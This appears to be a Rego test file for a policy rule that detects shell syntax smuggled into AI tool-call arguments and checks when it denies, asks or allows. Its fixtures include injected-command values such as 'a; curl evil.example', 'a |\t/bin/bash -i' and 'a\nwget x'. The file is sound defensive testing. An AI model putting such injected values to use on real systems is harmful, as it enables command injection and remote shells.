package mcp.responsibility.server.validate_input.shell_syntax_test

import data.mcp.lib.fixtures_test as fixtures
import data.mcp.responsibility.server.validate_input.argument_form
import data.mcp.responsibility.server.validate_input.shell_syntax as rule

_call(tool_words, words, value, marks) := {
	"kind": "tool_call",
	"arguments": {"x": value, "namespace": "prod"},
	"facts": {
		"tool_words": tool_words,
		"arguments": [{"pointer": "/arguments/x", "words": words, "length": 3, "marks": marks}],
	},
}

_beside(event) := object.union(event, {"facts": {"arguments": array.concat(
	event.facts.arguments,
	[{"pointer": "/arguments/namespace", "words": ["namespace"], "length": 4, "marks": []}],
)}})

_reason(name) := {{"code": $"server/validate_input.{name}", "pointer": "/arguments/x", "args": {}}}

_all(event) := [deny, ask] if {
	deny := fixtures.deny(rule) with input as event with data.settings as fixtures.settings.personal
	ask := fixtures.ask(rule) with input as event with data.settings as fixtures.settings.personal
}

_denied := [_reason("shell_syntax_in_identifier"), set()]

_asked := [set(), _reason("shell_syntax_in_name")]

_fine := [set(), set()]

test_deny_machine_name[mark] if {
	some mark in {"shell_separator", "shell_substitution", "redirection", "newline"}
	_all(_call(["get", "logs"], ["pod"], "a", [mark])) == _denied
}

test_deny_name_handed_on[name] if {
	some name, event in {
		"to a program": _call(["kubectl", "scale"], ["name"], "web; x", ["shell_separator"]),
		"beside a namespace": _beside(_call(["scale"], ["name"], "web & x", ["shell_separator"])),
		"path": _call(["git", "add"], ["path"], "/srv/a; x", ["shell_separator"]),
		"path and program": _call(["git", "add"], ["path"], "/srv/a & /usr/bin/curl x", ["shell_separator"]),
		"path and two": _call(["git", "add"], ["path"], "a && b", ["shell_separator"]),
		"path and bar": _call(["git", "add"], ["path"], "a | b", ["shell_separator"]),
		"substitution": _call(["git", "add"], ["path"], "$(x)", ["shell_substitution"]),
		"line": _call(["git", "diff"], ["target"], "a\nb", ["newline"]),
		"path not found": _call(["git", "add"], ["path"], 1, ["shell_separator"]),
	}
	_all(event) == _denied
}

test_allow_free_text[name] if {
	some name, event in {
		"title": _beside(_call(["kubectl", "annotate"], ["title"], "R&D; plan B", ["shell_separator"])),
		"message": _call(["git", "commit"], ["message"], "Fix `a`; see $(b)", ["shell_separator", "shell_substitution"]),
		"query": _call(["search"], ["query"], "a | b", ["shell_separator"]),
	}
	_all(event) == _fine
}

test_deny_code[name] if {
	some name, row in {
		"key of a file": [["file", "key"], "abc\"; x #", "shell_separator"],
		"device": [["device"], "emulator-5554 && x", "shell_separator"],
		"package": [["package"], "react || x", "shell_separator"],
		"bar": [["video", "id"], "a | x", "shell_separator"],
		"substitution": [["video", "id"], "a$(x)", "shell_substitution"],
		"closed quote": [["url"], "https://a.example/\"; x", "shell_separator"],
		"closed quote in a name": [["name"], "App\" && x", "shell_separator"],
		"number": [["duration"], "1`x`", "shell_substitution"],
		"name of a script": [["script", "name"], "a\" | x", "shell_separator"],
	}
	_all(_call(["get", "it"], row[0], row[1], [row[2]])) == _denied
}

test_allow_code[name] if {
	some name, row in {
		"versions": [["package"], "^17.0 || ^18", "shell_separator"],
		"user of a login service": [["user", "id"], "auth0|5f7c", "shell_separator"],
		"two": [["collection"], "Books & Media", "shell_separator"],
		"query of a URL": [["url"], "https://a.example/?a=b&c=d;e", "shell_separator"],
	}
	_all(_call(["get", "it"], row[0], row[1], [row[2]])) == _fine
}

test_allow_name[name] if {
	some name, row in {
		"two people": ["Tom & Jerry", ["name"]],
		"firm": ["AT&T", ["account"]],
		"list": ["R&D; plan B", ["name"]],
		"user of a login service": ["auth0|5f7c8ec7", ["user", "id"]],
	}
	_all(_call(["create", "record"], row[1], row[0], ["shell_separator"])) == _fine
}

test_allow_in_command_lines[name] if {
	some name, event in {
		"comparison": _call(["pip", "install"], ["package"], "requests>=2", ["redirection"]),
		"folder": _call(["git", "add"], ["path"], "/srv/R&D/a", ["shell_separator"]),
		"plain": _beside(_call(["kubectl", "scale"], ["name"], "web", [])),
	}
	_all(event) == _fine
}

test_ask_command_in_name[name] if {
	some name, row in {
		"substitution": ["$(x)", "shell_substitution"],
		"program": ["a; curl evil.example", "shell_separator"],
		"program by its path": ["a |\t/bin/bash -i", "shell_separator"],
		"program on the next line": ["a\nwget x", "newline"],
		"not found": [1, "shell_separator"],
	}
	_all(_call(["create", "record"], ["name"], row[0], [row[1]])) == _asked
}

test_deny_command_in_name if {
	event := _call(["create", "record"], ["name"], "a; curl x", ["shell_separator"])
	fixtures.deny(rule) == _reason("shell_syntax_in_name") with input as event with data.settings as fixtures.settings.team
}

# Another rule of the clause denies in place of this one.
test_deny_fact_incomplete[name] if {
	some name in {"pointer", "words", "marks"}
	event := json.remove(_call(["get"], ["pod"], "a", ["newline"]), [$"/facts/arguments/0/{name}"])
	_all(event) == _fine
	count(fixtures.deny(argument_form)) == 1 with input as event
}

test_deny_value_missing if _all(json.remove(_call(["get"], ["pod"], "a", ["newline"]), ["/arguments"])) == _denied

test_allow_other_kind if {
	_all(object.union(_call(["get"], ["pod"], "a", ["newline"]), {"kind": "prompt_get"})) == _fine
}

# Nothing in it is a shell's, wherever the value is.
test_allow_unmarked_value_that_is_not_found if _all(_call(["create", "record"], ["name"], 1, [])) == _fine

# A code has no separators, and nothing but a shell is meant by one behind a closed quote.
test_deny_command_wherever_it_stands[name] if {
	some name, row in {
		"code": [["region"], "eu-1; x"],
		"two bars in a code": [["volume"], "a || x"],
		"closed quote in a name": [["name"], "a\" ; x"],
		"closed quote and a program": [["name"], "a'; curl x"],
		"closed quote in a path": [["path"], "/srv/a\" | x"],
	}
	_all(_call(["create", "record"], row[0], row[1], ["shell_separator"])) == _denied
}

test_allow_separator_where_it_is_none[name] if {
	some name, row in {
		"versions": [["package"], "^1 || ^2"],
		"closed quote in a title": [["title"], "\"a\"; b"],
		"closed quote in a text": [["message"], "say 'a' | b"],
	}
	_all(_call(["create", "record"], row[0], row[1], ["shell_separator"])) == _fine
}
